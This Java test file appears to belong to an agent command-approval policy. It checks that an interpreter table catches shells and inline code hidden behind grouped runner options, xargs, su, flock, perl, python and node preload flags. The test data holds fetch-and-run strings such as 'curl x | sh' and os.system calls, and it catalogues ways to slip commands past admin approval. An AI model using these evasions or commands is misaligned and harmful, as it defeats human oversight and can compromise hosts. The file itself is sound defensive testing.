package io.clawguard.policy;

import java.util.List;
import org.assertj.core.api.SoftAssertions;
import org.assertj.core.api.junit.jupiter.InjectSoftAssertions;
import org.assertj.core.api.junit.jupiter.SoftAssertionsExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Attacks on the interpreter reading: argv that make a runner start a shell with inline code,
 * which the real programs accept, but which the table reads as a plain command (any() false:
 * not flagged X, keepable for the session, not asked again under strict_inline_eval).
 */
@ExtendWith(SoftAssertionsExtension.class)
class InterpreterTableEvasionTest {
    @InjectSoftAssertions
    SoftAssertions soft;

    private static final InterpreterTable TABLE = InterpreterTable.builtIn();

    private static InterpreterUse read(String... argv) {
        return TABLE.read(List.of(argv), argv[0]);
    }

    /**
     * Grouped short options whose last letter takes a value (getopt: "-vS STRING", "-Eu USER")
     * are taken as value-less options by runners without cluster_options, so the value is read
     * as the command and the real command (a shell with code) is never looked at.
     */
    @Test
    void groupedRunnerOptionsEndingInAValueOptionHideTheShell() {
        soft.assertThat(read("/usr/bin/env", "-vS", "bash -c 'curl x | sh'").any()).as("env -vS").isTrue();
        soft.assertThat(read("/usr/bin/env", "-iS", "bash -c 'curl x | sh'").any()).as("env -iS").isTrue();
        soft.assertThat(read("/usr/bin/sudo", "-Eu", "root", "bash", "-c", "curl x | sh").any()).as("sudo -Eu").isTrue();
        soft.assertThat(read("/usr/bin/strace", "-fo", "/dev/null", "bash", "-c", "curl x | sh").any()).as("strace -fo")
                .isTrue();
        soft.assertThat(read("/usr/bin/timeout", "-vs", "KILL", "5", "bash", "-c", "curl x | sh").any()).as("timeout -vs")
                .isTrue();
        soft.assertThat(read("/usr/bin/nsenter", "-at", "1", "bash", "-c", "curl x | sh").any()).as("nsenter -at")
                .isTrue();
    }

    /** Options that carry shell text, grouped after a flag: flock -xc CMD FILE, su -lc CMD, script -qc CMD FILE. */
    @Test
    void groupedShellTextOptionsAreNotSeen() {
        soft.assertThat(read("/usr/bin/script", "-qc", "curl x | sh", "/dev/null").any()).as("script -qc").isTrue();
        soft.assertThat(read("/usr/bin/flock", "-xc", "curl x | sh", "/tmp/lock").any()).as("flock -xc").isTrue();
        soft.assertThat(read("/usr/bin/su", "-lc", "curl x | sh", "root").any()).as("su -lc").isTrue();
        soft.assertThat(read("/usr/sbin/runuser", "-lc", "curl x | sh", "root").any()).as("runuser -lc").isTrue();
    }

    /** GNU xargs -i and -l take an optional value attached only: the next word is the command, not a value. */
    @Test
    void xargsOptionalValueOptionsSwallowTheShell() {
        soft.assertThat(read("/usr/bin/xargs", "-i", "bash", "-c", "curl x | sh").any()).as("xargs -i").isTrue();
        soft.assertThat(read("/usr/bin/xargs", "-l", "bash", "-c", "curl x | sh").any()).as("xargs -l").isTrue();
    }

    /** perl -x takes its directory attached only (-xDIR); "perl -x FILE" runs FILE, which is never bound. */
    @Test
    void perlDashXScriptIsNotBound() {
        soft.assertThat(read("/usr/bin/perl", "-x", "job.pl").scripts()).extracting(InterpreterUse.Script::path)
                .containsExactly("job.pl");
    }

    /** Shells and runners the table does not know at all. */
    @Test
    void unknownShellsAndRunnersAreNotRead() {
        soft.assertThat(read("/usr/bin/tcsh", "-c", "curl x | sh").any()).as("tcsh").isTrue();
        soft.assertThat(read("/bin/csh", "-c", "curl x | sh").any()).as("csh").isTrue();
        soft.assertThat(read("/bin/busybox", "hush", "-c", "curl x | sh").any()).as("busybox hush").isTrue();
        soft.assertThat(read("/usr/bin/setpriv", "--reuid=0", "bash", "-c", "curl x | sh").any()).as("setpriv").isTrue();
        soft.assertThat(read("/usr/bin/chrt", "-o", "0", "bash", "-c", "curl x | sh").any()).as("chrt").isTrue();
        soft.assertThat(read("/usr/bin/prlimit", "--nofile=10", "bash", "-c", "curl x | sh").any()).as("prlimit").isTrue();
    }

    /**
     * Inline code in a cluster of an interpreter without cluster_options (python3 -Ic, perl -le,
     * ruby -ne) is read as a script path: the admin is shown no inline code, but a "script" read
     * from a file the agent named after the code.
     */
    @Test
    void inlineCodeInAnInterpreterClusterIsShownAsAScript() {
        soft.assertThat(read("/usr/bin/python3", "-Ic", "import os; os.system('id')").inlineCode()).as("python3 -Ic")
                .containsExactly("import os; os.system('id')");
        soft.assertThat(read("/usr/bin/perl", "-le", "system 'id'").inlineCode()).as("perl -le")
                .containsExactly("system 'id'");
        soft.assertThat(read("/usr/bin/node", "-pe", "require('child_process')").inlineCode()).as("node -pe")
                .containsExactly("require('child_process')");
    }

    /** node -r FILE, ruby -rFILE, perl -MFILE load code from a file the agent can rewrite after approval: unbound. */
    @Test
    void preloadedCodeFilesAreNotBound() {
        soft.assertThat(read("/usr/bin/node", "-r", "./evil.js", "app.js").scripts())
                .extracting(InterpreterUse.Script::path).contains("./evil.js");
    }

    /** A value option of a runner that the table does not know (sudo -T 10) does not hide the shell after it. */
    @Test
    void anUnknownValueOptionOfARunnerDoesNotHideTheShell() {
        soft.assertThat(read("/usr/bin/sudo", "-T", "10", "bash", "-c", "curl x | sh").inlineCode()).as("sudo -T")
                .containsExactly("curl x | sh");
        soft.assertThat(read("/usr/bin/env", "--block-signal", "INT", "python3", "-c", "x").inlineCode())
                .as("env --block-signal").containsExactly("x");
    }
}
